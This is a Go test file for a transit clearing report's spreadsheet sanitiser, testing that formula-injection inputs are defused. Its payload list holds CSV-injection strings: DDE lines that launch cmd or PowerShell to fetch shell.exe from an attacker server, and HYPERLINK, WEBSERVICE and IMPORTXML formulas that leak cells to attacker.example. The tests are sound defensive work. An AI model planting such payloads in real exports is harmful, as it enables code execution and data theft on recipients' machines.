package spreadsheet_test

import (
	"strings"
	"testing"

	"github.com/citycard/transit/clearing/report/spreadsheet"
)

// owasp are the payloads of OWASP's CSV Injection page and its usual
// companions (DDE, HYPERLINK, WEBSERVICE, IMPORTXML), with the variants
// the platform met: leading spaces, a tab or CR first.
var owasp = []string{
	`=cmd|' /C calc'!A0`,
	`=cmd|' /C notepad'!'A1'`,
	`=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0`,
	`=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click here")`,
	`=HYPERLINK(CONCATENATE("http://attacker.example/?",A2),"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-1+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`=10+20+cmd|' /C calc'!A0`,
	`=1+1`,
	`+1`,
	`-1`,
	`@A1`,
	`=WEBSERVICE("http://attacker.example/"&A1)`,
	`=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")`,
	`=DDE("cmd";"/C calc";"!A0")A0`,
	`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\x00=1+1",
	"   =1+1",
	" \t -1+1",
	"\u00a0=1+1", // a no-break space
	"\uff1d1+1",  // a full-width equals sign
	"\uff20SUM(A1)",
	"\t",
	"\r",
}

func TestDefusesOWASP(t *testing.T) {
	for _, p := range owasp {
		got := spreadsheet.Defuse(p)
		if got != "'"+p {
			t.Errorf("Defuse(%q) = %q, want %q", p, got, "'"+p)
		}
		if !spreadsheet.Dangerous(p) {
			t.Errorf("Dangerous(%q) = false", p)
		}
		// Once defused, a value is safe and stays as it is.
		if spreadsheet.Dangerous(got) || spreadsheet.Defuse(got) != got {
			t.Errorf("Defuse(Defuse(%q)) changed it again", p)
		}
	}
}

func TestLeavesTextAlone(t *testing.T) {
	for _, s := range []string{"", "ATP-1", "Пенсіонер", "2026-11-03", "12", "a=b", "x-1", "'quoted",
		"Privat-7 minibus operator", "bus-0417-front", " leading space", "O'Brien", "1+1"} {
		if got := spreadsheet.Defuse(s); got != s {
			t.Errorf("Defuse(%q) = %q, want it unchanged", s, got)
		}
	}
}

func TestRow(t *testing.T) {
	got := spreadsheet.Row([]string{"ATP-1", "=1+1"})
	if strings.Join(got, ",") != "ATP-1,'=1+1" {
		t.Errorf("Row = %q", got)
	}
}

func FuzzDefuse(f *testing.F) {
	for _, p := range owasp {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := spreadsheet.Defuse(s)
		if spreadsheet.Dangerous(d) {
			t.Fatalf("Defuse(%q) = %q is still dangerous", s, d)
		}
		if d != s && d != "'"+s {
			t.Fatalf("Defuse(%q) = %q: only a quote may be added", s, d)
		}
	})
}
